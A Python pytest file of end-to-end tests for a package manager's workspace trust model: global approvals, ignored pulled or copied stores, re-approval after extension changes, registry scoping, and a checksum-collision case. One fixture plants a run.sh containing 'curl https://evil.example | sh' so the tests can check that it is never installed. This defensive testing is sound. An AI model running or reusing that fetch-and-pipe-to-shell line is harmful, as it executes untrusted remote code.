"""End-to-end: trust and the workspace store (SPEC 10) — approvals in the global state, a store
outside the work tree that nothing committed or copied reaches, path extensions covered by the
digest, and the registries of an approved pkgmgr.toml."""

from __future__ import annotations

import base64
import json
import shutil
import sqlite3
from pathlib import Path

import pytest

from tests.cli.helpers import REPO, tree
from tests.registry.helpers import RegistryDir
from tests.support.builders import format1_tree_checksum
from tests.support.servers import StaticFileServer
from tests.support.stores import store_root
from tests.workspace.conftest import team  # noqa: F401 - shared fixture
from tests.workspace.helpers import (
    BUNDLED,
    LOCAL,
    STORY_MANIFEST,
    Team,
    activations,
    cli,
    crew_archive,
    fail,
    installed,
    ok,
)


def synced(team: Team) -> None:
    team.write_manifest(STORY_MANIFEST)
    ok("trust", "--workspace", team.ws)
    ok("sync", "--workspace", team.ws)


def test_approvals_live_in_the_global_state(team: Team, home: Path) -> None:
    synced(team)
    conn = sqlite3.connect(home / "state.db")
    rows = conn.execute("SELECT workspace, approved_by FROM trust_approvals").fetchall()
    assert [r[0] for r in rows] == [str(team.ws)] and rows[0][1]
    # nothing in the workspace records an approval: deleting the global one asks again
    conn.execute("DELETE FROM trust_approvals")
    conn.commit()
    conn.close()
    fail("trust_required", "sync", "--workspace", team.ws)
    local = sqlite3.connect(store_root(team.ws) / "state.db")
    assert local.execute("SELECT count(*) FROM trust_approvals").fetchone() == (0,)
    local.close()


def test_a_copied_workspace_starts_with_an_empty_store(team: Team, tmp_path: Path) -> None:
    synced(team)
    copy = tmp_path / "user-home" / "src" / "copy"
    shutil.copytree(team.ws, copy)  # the work tree holds nothing of the store to copy
    assert ok("--scope", "workspace", "ext", "list", "--workspace", copy)["extensions"] == []
    fail("trust_required", "sync", "--workspace", copy)  # approvals are per path
    shown = ok("trust", "--show", "--workspace", copy)
    assert shown["store"] == {"path": str(store_root(copy)), "exists": False} and shown["approved"] is False
    ok("trust", "--workspace", copy)
    team.server.clear()
    done = ok("sync", "--workspace", copy)
    assert {e["name"]: e["action"] for e in done["plan"]["extensions"]} == {BUNDLED: "install", LOCAL: "install"}
    assert team.archive_requests() == []  # from the download cache, checked against the lock
    assert installed(copy) == {BUNDLED: "0.1.0", LOCAL: "0.1.0"}
    assert [a[2] for a in activations(copy)] == ["active"]
    # the original is untouched and still trusted
    assert ok("sync", "--workspace", team.ws)["plan"]["empty"] is True


def plant_store(ws: Path) -> Path:
    """What a pulled commit can track under the store of earlier versions: a state.db that lists
    an extension, and a tree at the predictable path of an installed version."""
    store = ws / ".pkgmgr"
    (store / "extensions" / BUNDLED / "0.1.0").mkdir(parents=True)
    (store / "extensions" / BUNDLED / "0.1.0" / "run.sh").write_text("curl https://evil.example | sh\n")
    (store / ".gitignore").write_text("*\n")
    conn = sqlite3.connect(store / "state.db")
    conn.execute("CREATE TABLE extensions (name TEXT, version TEXT)")
    conn.execute("INSERT INTO extensions VALUES ('evil', '6.6.6')")
    conn.commit()
    conn.close()
    return store


def test_a_pulled_store_changes_nothing_pkgmgr_believes(team: Team) -> None:
    """The attack of issue 13 item 2: `git pull` brings a tracked `.pkgmgr/` (state.db and an
    extension tree). ext list, doctor --check and sync see exactly what they saw before."""
    synced(team)
    W = ("--workspace", team.ws)
    listed = ok("--scope", "workspace", "ext", "list", *W)
    store = store_root(team.ws)
    before = tree(store)
    planted = plant_store(team.ws)
    pulled = tree(planted)
    assert ok("--scope", "workspace", "ext", "list", *W) == listed
    assert ok("doctor", "--check", *W)["ok"] is True
    result = cli("sync", *W, cwd=team.ws)
    assert result.code == 0, result
    assert result.stderr.count(f"warning: {planted} was left by an earlier pkgmgr and is ignored") == 1
    assert ok("sync", *W)["plan"]["empty"] is True
    assert ok("ext", "verify", "--all", "--scope", "workspace", *W)
    assert tree(store) == before and tree(planted) == pulled  # neither store moved


def test_a_committed_store_is_not_what_a_fresh_sync_installs_from(team: Team) -> None:
    team.write_manifest(STORY_MANIFEST)
    planted = plant_store(team.ws)
    pulled = tree(planted)
    ok("trust", "--workspace", team.ws)
    ok("sync", "--workspace", team.ws)
    assert installed(team.ws) == {BUNDLED: "0.1.0", LOCAL: "0.1.0"}  # not 'evil'
    run_sh = store_root(team.ws) / "extensions" / BUNDLED / "0.1.0" / "run.sh"
    assert not run_sh.exists() and tree(planted) == pulled


@pytest.mark.parametrize("kind", ["dangling", "elsewhere"])
def test_a_committed_store_link_is_ignored(team: Team, tmp_path: Path, kind: str) -> None:
    (tmp_path / "elsewhere").mkdir()
    target = tmp_path / ("nowhere" if kind == "dangling" else "elsewhere") / "store"
    (team.ws / ".pkgmgr").symlink_to(target)  # git stores links as they are
    ok("--scope", "workspace", "ext", "install", team.ws / "tools" / "local-tool", "--allow-unverified", "--yes",
       "--workspace", team.ws)
    assert installed(team.ws) == {LOCAL: "0.1.0"}
    assert not target.exists() and list((tmp_path / "elsewhere").iterdir()) == []  # nothing written through it
    assert (team.ws / ".pkgmgr").is_symlink()  # ignored, not deleted


def test_trust_show_says_which_registry_the_lock_names(team: Team) -> None:
    # `sync` keeps a locked version from the registry the lock names, whatever the priorities:
    # a reviewer must see that registry, not only "(by priority)"
    synced(team)
    shown = ok("trust", "--show", "--workspace", team.ws)
    [crew] = [e for e in shown["extensions"] if e["name"] == BUNDLED]
    assert crew["locked_source"] == f"registry+{team.url}"
    [row] = [line for line in cli("trust", "--show", "--workspace", team.ws).stdout.splitlines()
             if line.startswith(BUNDLED) and " registry " in line]
    assert f"(locked: {team.url})" in row


def test_changing_a_path_extension_needs_trust_again(team: Team) -> None:
    synced(team)
    tool = team.ws / "tools" / "local-tool"
    (tool / "bin" / "serve").write_text("#!/bin/sh\necho something else\n")
    fail("trust_required", "sync", "--workspace", team.ws)
    (tool / "bin" / "serve").write_text("#!/bin/sh\necho serve\n")  # back as approved
    assert ok("sync", "--workspace", team.ws)["plan"]["empty"] is True
    (tool / "bin" / "extra.sh").write_text("echo new file\n")  # a new file counts too
    fail("trust_required", "sync", "--workspace", team.ws)
    (tool / "bin" / "serve").chmod(0o755)  # and so does the execute bit
    (tool / "bin" / "extra.sh").unlink()
    fail("trust_required", "sync", "--workspace", team.ws)
    ok("trust", "--workspace", team.ws)
    done = ok("sync", "--workspace", team.ws)
    assert [e["action"] for e in done["plan"]["extensions"] if e["name"] == LOCAL] == ["reinstall"]


def test_trust_when_nothing_is_declared(tmp_path: Path) -> None:
    empty = tmp_path / "user-home" / "nothing"
    empty.mkdir(parents=True)
    error = fail("not_found", "trust", "--workspace", empty)["error"]
    assert "nothing to trust" in error["message"]
    missing = fail("not_found", "sync", "--workspace", empty)["error"]
    assert "pkgmgr.toml" in missing["message"]
    assert "--save" in cli("sync", "--workspace", empty).stderr  # the hint says how to start one


# --- registries declared by the workspace --------------------------------------------------------


@pytest.fixture
def other(tmp_path: Path):
    """A second registry (configured by the user) that also lists team-crew, at 0.9.0."""
    registry = RegistryDir(tmp_path / "other-index", "other")
    registry.publish(BUNDLED, "0.9.0", data=crew_archive(BUNDLED, "0.9.0"))
    with StaticFileServer(registry.root, name="other") as server:
        yield server


def test_approved_registries_serve_the_workspace_scope_only(team: Team, other: StaticFileServer) -> None:
    ws = team.ws
    team.write_manifest(STORY_MANIFEST)
    # not approved: not used, with a warning
    result = cli("ext", "install", BUNDLED, "--scope", "workspace", "-o", "json", cwd=ws)
    assert result.code == 5 and "not used until you approve them" in result.stderr
    ok("trust", "--workspace", ws)
    # inside the approved workspace, a workspace-scope command finds it in the team registry
    first = ok("ext", "install", f"{BUNDLED}@<0.2", "--scope", "workspace", cwd=ws)
    assert [(i["name"], i["version"], i["scope"]) for i in first["installed"]] == [(BUNDLED, "0.1.0", "workspace")]
    # a global command run inside it never consults them (SPEC 10), and neither does one outside
    assert cli("ext", "info", BUNDLED, "-o", "json", cwd=ws).code == 5
    assert cli("ext", "install", BUNDLED, "-o", "json", cwd=ws).code == 5
    outside = ws.parent / "elsewhere"
    outside.mkdir()
    assert cli("ext", "info", BUNDLED, "-o", "json", cwd=outside).code == 5
    # configured registries come first, whatever the workspace declares
    ok("registry", "add", "other", other.url)
    assert ok("ext", "info", BUNDLED, "--scope", "workspace", cwd=ws)["registry"] == "other"
    # and the workspace may come before the shipped default: review-pack is in both
    team.registry.publish("review-pack", "9.0.0")
    assert ok("ext", "info", "review-pack", "--scope", "workspace", cwd=ws)["registry"] == "team"
    assert ok("ext", "info", "review-pack", cwd=ws)["registry"] == "default"


def test_workspace_registry_may_not_reuse_a_configured_name(team: Team, other: StaticFileServer) -> None:
    ok("registry", "add", "team", other.url)
    team.write_manifest(STORY_MANIFEST)
    ok("trust", "--workspace", team.ws)
    error = fail("invalid_config", "sync", "--workspace", team.ws)["error"]
    assert error["exit_code"] == 3 and error["details"]["registries"] == ["team"]
    fail("invalid_config", "ext", "install", BUNDLED, "--scope", "workspace", cwd=team.ws)


def test_a_re_split_path_extension_is_not_the_approved_one(team: Team, home: Path) -> None:
    """The red team's format-1 collision (SPEC 3): the approved tree's logo embeds a record
    boundary, and the commit that follows moves it into the hook, which now runs something else.
    Format 1 fed the same bytes for both trees, so the approval held; format 2 does not."""
    vectors = json.loads((REPO / "tests" / "vectors" / "tree_checksum.json").read_text())
    cases = {case["name"]: case["files"] for case in vectors["cases"]}
    tool = team.ws / "tools" / "local-tool"

    def write(case: str) -> None:
        for rel, file in cases[case].items():
            (tool / rel).parent.mkdir(parents=True, exist_ok=True)
            (tool / rel).write_bytes(base64.b64decode(file["content_b64"]))
            (tool / rel).chmod(0o755 if file["executable"] else 0o644)

    write("format-1 collision, tree 1")
    synced(team)
    approved = format1_tree_checksum(tool)
    store = store_root(team.ws, home)
    hook = store / "extensions" / LOCAL / "0.1.0" / "hooks" / "run.sh"
    assert hook.read_bytes() == b"#!/bin/sh\necho hello\n"
    before = (tree(store), (team.ws / "pkgmgr.lock").read_bytes(), installed(team.ws))
    write("format-1 collision, tree 2")
    assert format1_tree_checksum(tool) == approved  # the attack holds against format 1
    fail("trust_required", "sync", "--workspace", team.ws)
    fail("trust_required", "sync", "--frozen", "--workspace", team.ws)
    assert (tree(store), (team.ws / "pkgmgr.lock").read_bytes(), installed(team.ws)) == before
    assert hook.read_bytes() == b"#!/bin/sh\necho hello\n"
